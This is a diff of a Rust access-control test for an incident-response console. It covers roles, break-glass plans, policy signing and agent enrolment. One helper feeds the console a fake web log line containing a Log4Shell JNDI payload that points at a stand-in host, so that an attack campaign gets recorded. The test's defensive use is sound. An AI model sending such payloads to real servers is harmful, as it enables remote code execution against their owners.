@@ -2,9 +2,19 @@
 //! they say and do without a sign-in, to people of another body, and to each role.
 
 use std::collections::BTreeSet;
+use std::path::Path;
+use std::sync::Arc;
 
-use relight_engine::access::Role;
-use relight_server::{Who, console_pages};
+use relight_engine::Smashing;
+use relight_engine::access::{Grant, Role, Scope};
+use relight_engine::plan::{Action, PlanAsk};
+use relight_engine::policy::{Means, Person, Policy};
+use relight_engine::store::{AgentCodeRow, Enrolment, Store};
+use relight_engine::watch::Feed;
+use relight_model::{Digest, GateKey};
+use relight_server::agents::{AGENT_KEY_FILE, AgentDesk};
+use relight_server::{Who, console_pages, policy_file};
+use tempfile::TempDir;
 
 use crate::door_device::form;
 use crate::door_support::{START, World, clock, code_in, person, token};
@@ -33,34 +43,57 @@ struct Place {
     others: [String; 3],
     /// What was read of the plan that waits.
     hash: String,
+    /// Glass that was broken and that nobody reviewed.
+    glass: Digest,
+    /// Digest and key of a policy that nobody confirmed.
+    policy: [String; 2],
+    /// A campaign that was seen at a site of the utility.
+    campaign: String,
+    _keys: TempDir,
 }
 
 impl Place {
     fn start(clock: fn() -> i64) -> Self {
         let (mut chief, mut others, mut roles) = (String::new(), Default::default(), Vec::new());
-        let world = World::start(clock, |store| {
-            behind_an_edge(store);
-            chief = person(store, "chief", 1, &[("commander", "/")]);
-            // Nobody has all of them: an admin neither commands nor approves.
-            let (admin, all): (Vec<_>, Vec<_>) = Role::ALL
-                .map(|role| (role.as_str(), "energy/Utility"))
-                .into_iter()
-                .partition(|(role, _)| *role == Role::Admin.as_str());
-            others = [
-                person(store, "foreign", 2, &all),
-                person(store, "foreign-admin", 3, &admin),
-                person(store, "stranger", 4, &[]),
-            ];
-            for (role, number) in Role::ALL.into_iter().zip(10..) {
-                let grant = [(role.as_str(), "/")];
-                roles.push((role, person(store, &format!("a-{}", role.as_str()), number, &grant)));
-            }
-        });
+        let keys = tempfile::tempdir().unwrap();
+        let world = World::start_with(
+            clock,
+            |config| {
+                let engine = Arc::clone(config.engine.as_ref().unwrap());
+                let desk = AgentDesk::open(engine, &keys.path().join(AGENT_KEY_FILE));
+                config.agents = Some(Arc::new(desk.unwrap()));
+                // Whoever is let in knows the key, which has to be there before.
+                enrol(config.engine.as_ref().unwrap().store());
+            },
+            |store| {
+                behind_an_edge(store);
+                chief = person(store, "chief", 1, &[("commander", "/")]);
+                // Nobody has all of them: an admin neither commands nor approves.
+                let (admin, all): (Vec<_>, Vec<_>) = Role::ALL
+                    .map(|role| (role.as_str(), "energy/Utility"))
+                    .into_iter()
+                    .partition(|(role, _)| *role == Role::Admin.as_str());
+                others = [
+                    person(store, "foreign", 2, &all),
+                    person(store, "foreign-admin", 3, &admin),
+                    person(store, "stranger", 4, &[]),
+                ];
+                for (role, number) in Role::ALL.into_iter().zip(10..) {
+                    let (name, grant) = (format!("a-{}", role.as_str()), [(role.as_str(), "/")]);
+                    roles.push((role, person(store, &name, number, &grant)));
+                }
+            },
+        );
         open_incident(&world, &chief);
         let (status, to) = propose(&world, &chief, "care");
         assert_eq!(status, 303, "{to}");
         let hash = code_in(&world.get("/approve/A-0001?lang=en", &chief).2);
-        Self { world, roles, others, hash }
+        let by = |role| &roles.iter().find(|it: &&(Role, String)| it.0 == role).unwrap().1;
+        let asked = [("name", "stranger"), ("role", "approver"), ("scope", "/")];
+        assert_eq!(world.act(by(Role::Admin), ("/accounts", "/accounts/grant"), &asked).0, 200);
+        let (glass, campaign) = (break_glass(&world), attempt(&world));
+        let policy = replace_policy(&world, keys.path(), by(Role::Approver));
+        Self { world, roles, others, hash, glass, policy, campaign, _keys: keys }
     }
 
     /// Everything that somebody decided, who may what, and by what they come in.
@@ -75,6 +108,7 @@ impl Place {
     /// All that forms of the console ask for, about what is the hospital's, by whoever this is.
     fn fields(&self, cookie: &str) -> String {
         let ask = "/plan?lang=en&action=dark&which=named&sites=beds&reason=x";
+        let ask = &format!("{ask}&incident={LOG4SHELL}");
         let [own, plan] = ["/me", ask].map(|path| self.world.get(path, cookie).2);
         let has = |page: &str, name: &str| page.contains(&format!("name=\"{name}\" value="));
         let token = if has(&own, "token") { token(&own) } else { "x".into() };
@@ -111,8 +145,9 @@ impl Place {
             ("label", "ci"),
             ("ticket", "x"),
             ("code", "x"),
-            ("digest", "x"),
-            ("key", "x"),
+            ("digest", &self.policy[0]),
+            ("key", &self.policy[1]),
+            ("plan", &self.glass.to_string()),
             ("until", "1"),
         ])
     }
@@ -122,6 +157,10 @@ impl Place {
     fn send(&self, (method, path): (&str, &str), cookie: &str, fields: &str) -> (u16, String) {
         let id = if path.starts_with("/approve") { "A-0001" } else { LOG4SHELL };
         let path = path.replace("{id}", id).replace("{slug}", "care").replace("{name}", "nothing");
+        let path = match path.as_str() {
+            "/watch/tell" => format!("{path}?q={}", self.campaign),
+            _ => path,
+        };
         if path == "/events" {
             let request = format!("GET {path} HTTP/1.1\r\nCookie: {cookie}\r\n");
             let end = |lines: &[String]| lines.iter().any(String::is_empty);
@@ -130,10 +169,69 @@ impl Place {
         }
         let (status, head, body) = match method {
             "GET" => self.world.get(&path, cookie),
+            _ if path.starts_with("/watch/") => {
+                let named = fields.replace("&id=1&", &format!("&id={}&", self.campaign));
+                self.world.post(&path, cookie, &named)
+            }
             _ => self.world.post(&path, cookie, fields),
         };
         (status, head + &body)
     }
+}
+
+/// An agent of the hospital, which is the first one.
+fn enrol(store: &Store) {
+    let (code, made_by) = (Digest([1; 32]), "test".to_owned());
+    let mut bodies = store.organisations().unwrap().into_iter();
+    let org = bodies.find(|body| body.name == "Hospital").unwrap().id;
+    let row = AgentCodeRow { digest: code, org, host: "*".into(), expires: i64::MAX, made_by };
+    store.put_agent_code(&row, START).unwrap();
+    let (host, expires) = ("web-1", i64::MAX);
+    store.enrol_agent(Enrolment { code, host, fingerprint: code, expires, now: START }).unwrap();
+}
+
+/// Glass that is broken for the site of the utility, in an incident of its own: it stays dark.
+fn break_glass(world: &World) -> Digest {
+    let incident = world.engine.open_incident("chief", "CVE-2021-45046", "").unwrap();
+    let policy = Policy::signed(Digest([7; 32]), 5, 200);
+    let grants = vec![Grant { role: Role::Commander, scope: Scope::root() }];
+    let chief = Person { name: "chief".into(), grants, means: Means::HardwareKey };
+    let ask = PlanAsk {
+        incident,
+        action: Action::Dark,
+        part: None,
+        reason: "x".into(),
+        advisory_revision: Digest::default(),
+        policy: policy.digest,
+        proposer: chief.name.clone(),
+        created: world.engine.now(),
+    };
+    let plan = world.engine.plan(ask, &[GateKey::new("power").unwrap()]).unwrap();
+    let hash = plan.hash().unwrap();
+    let smashing = Smashing { hash, reason: "x", proof: None };
+    world.engine.smash_glass(&policy, &chief, &plan, smashing).unwrap();
+    hash
+}
+
+/// Somebody tries a payload at the site of the utility; the id of the campaign.
+fn attempt(world: &World) -> String {
+    let sites = world.store.sites().unwrap();
+    let site = sites.into_iter().find(|site| site.slug.as_str() == "power").unwrap();
+    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
+                HTTP/1.1\" 404 12 \"-\" \"-\"\n";
+    world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
+    world.engine.campaigns().unwrap().campaigns[0].id.clone()
+}
+
+/// Somebody at the machine signs a policy, which waits for one who decides: its digest and key, as
+/// that one is shown them.
+fn replace_policy(world: &World, keys: &Path, approver: &str) -> [String; 2] {
+    let folder = world.store.path().parent().unwrap();
+    std::fs::write(folder.join(policy_file::POLICY_FILE), "").unwrap();
+    policy_file::sign(folder, &world.store, &keys.join("key"), false).unwrap();
+    let page = world.get("/plans?lang=en", approver).2;
+    ["digest", "key"].map(|name| field(&page, name))
 }
 
 /// Method, address, who is let through and with which roles; last what puts an end to something.
@@ -206,17 +304,6 @@ fn no_page_and_no_form_leads_to_sites_of_another_body() {
     place.world.web.stop();
 }
 
-/// Forms that need more than these fields: each does something in a test of its own.
-const ELSEWHERE: [&str; 7] = [
-    "/accounts/settle",
-    "/agents/code",
-    "/agents/revoke",
-    "/plans/glass",
-    "/plans/policy",
-    "/watch/export",
-    "/watch/tell",
-];
-
 /// Goal: a form does what it says for one of the roles that the table names, and nothing for any
 /// other. Method: each of the table by people with one role everywhere; first by those who may not,
 /// while there is still something to do.
@@ -226,7 +313,6 @@ fn each_role_reaches_the_pages_and_forms_that_are_its_own() {
     now_set(START);
     let place = Place::start(now);
     let fields: Vec<_> = place.roles.iter().map(|it| place.fields(&it.1)).collect();
-    let mut undone = BTreeSet::new();
     for (method, path, _, roles) in pages() {
         let may = |role| roles.is_empty() || roles.contains(role);
         let mut people: Vec<_> = place.roles.iter().zip(&fields).collect();
@@ -238,18 +324,13 @@ fn each_role_reaches_the_pages_and_forms_that_are_its_own() {
             let told = format!("{} {method} {path}: {status} {text}", role.as_str());
             if !may(role) {
                 assert!(status >= 400, "{told}");
-                // The fields name no campaign that is there: for that, all are refused.
-                assert!(path != "/watch/export" || status == 403, "{told}");
                 assert_eq!(place.standing(), before, "{told}");
             } else if method == "GET" {
                 assert!(status != 401 && status != 403 && status < 500, "{told}");
             }
             is_done |= may(role) && status < 400;
         }
-        if !roles.is_empty() && !is_done {
-            undone.insert(path);
-        }
+        assert!(is_done || roles.is_empty(), "{method} {path}: nobody did it");
     }
-    assert_eq!(undone, ELSEWHERE.into(), "what nobody did");
     place.world.web.stop();
 }
